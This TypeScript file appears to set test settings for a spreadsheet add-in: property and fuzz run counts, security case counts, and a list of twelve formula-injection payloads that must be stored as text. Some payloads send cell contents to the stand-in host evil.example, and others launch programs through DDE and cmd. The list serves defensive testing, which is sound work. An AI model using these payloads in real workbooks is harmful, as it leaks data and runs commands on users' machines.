/**
 * The number of generated cases per property and fuzz target. docs/RELIABILITY.md shows these
 * figures in tables written by `npm run docs:figures` (scripts/docs-figures.ts).
 */
export const PROPERTY_RUNS = {
  "monotone-potential": 5000,
  "monotone-score": 5000,
  "interchangeable-demand-fit-local": 3000,
  "investment-mirror": 3000,
  "spellings": 5000,
  "numbers-as-text": 2000,
  "range-equals-cells": 1000,
  "language-only-label": 2000,
} as const;

export const FUZZ_RUNS = {
  potential: 4000,
  score: 4000,
  explain: 3000,
} as const;

/** Sizes (cells per criterion argument) of the linear-reads check, per function and input mix. */
export const LINEAR_SIZES = [1, 10, 100, 10_000] as const;

/**
 * Real formula-injection payloads. Every one is written through a colleague's JSON and through
 * the report (first import and an updating re-import) and must land as text.
 */
export const INJECTION_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  // Full-width equals sign (U+FF1D): guarded, see docs/RELIABILITY.md.
  "＝1+1",
  // A leading space: Excel keeps it as text; left unguarded, see docs/RELIABILITY.md.
  " =1+1",
] as const;

/**
 * The attack and fault cases the tests run. docs/RELIABILITY.md shows them (npm run docs:figures),
 * and the tests that own each list check its length against these figures.
 */
export const SECURITY_CASES = {
  /** Payloads of INJECTION_PAYLOADS, each through 4 paths (JSON into a new and an existing workbook, report first import, updating re-import). */
  "injection-payloads": 12,
  /** Rejected files in tests/taskpane/excel/share-validate.test.ts. */
  "json-attacks": 28,
  /** 3 paths × first, second, last batch × clean or halfway failure, plus read, first and last write at 10,000 rows. */
  "fault-points": 21,
  /** tests/taskpane/excel/cut-every-command.test.ts: every request of 4 import paths cut after each of its commands (and after none). */
  "cut-points": 944,
  /** The same 4 paths, 40 random pairs each: the import cut, its rerun cut, then a third run. */
  "double-cuts": 160,
  /** Second clicks while an import runs (report during report, JSON during report, report during JSON, JSON during JSON). */
  "second-click": 4,
  /** Real-browser checks of tests/e2e/xss.e2e.test.ts: markup as text (preview, Excel mode, the real writer), CSP on 3 pages, inline script refused, 5 s of network. */
  "browser-checks": 8,
} as const;
